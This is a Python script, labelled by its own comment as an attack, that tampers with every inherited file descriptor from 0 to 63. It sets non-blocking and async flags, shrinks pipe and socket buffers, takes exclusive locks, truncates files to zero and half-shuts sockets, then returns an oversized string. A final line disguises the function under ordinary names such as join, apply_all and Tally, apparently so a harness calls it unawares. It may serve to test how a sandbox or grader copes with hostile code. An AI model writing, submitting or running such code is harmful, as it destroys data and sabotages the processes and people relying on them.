# aim: change the flags and buffers of shared descriptors: O_NONBLOCK, O_ASYNC, tiny buffers, half shut, locked
import fcntl
import os
import socket


def attack(*args):
    for fd in range(64):
        for action in (
            lambda: fcntl.fcntl(fd, fcntl.F_SETFL, os.O_NONBLOCK | os.O_ASYNC | os.O_APPEND),
            lambda: fcntl.fcntl(fd, 1031, 4096),  # F_SETPIPE_SZ
            lambda: fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB),
            lambda: os.ftruncate(fd, 0),
            lambda: with_socket(fd, lambda line: line.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1)),
            lambda: with_socket(fd, lambda line: line.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)),
            lambda: with_socket(fd, lambda line: line.shutdown(socket.SHUT_RD)),
        ):
            try:
                action()
            except (OSError, ValueError):
                pass
    return "x" * 900_000


def with_socket(fd, action):
    with socket.socket(fileno=os.dup(fd)) as line:
        action(line)


double = join = apply_all = refuse = Tally = attack
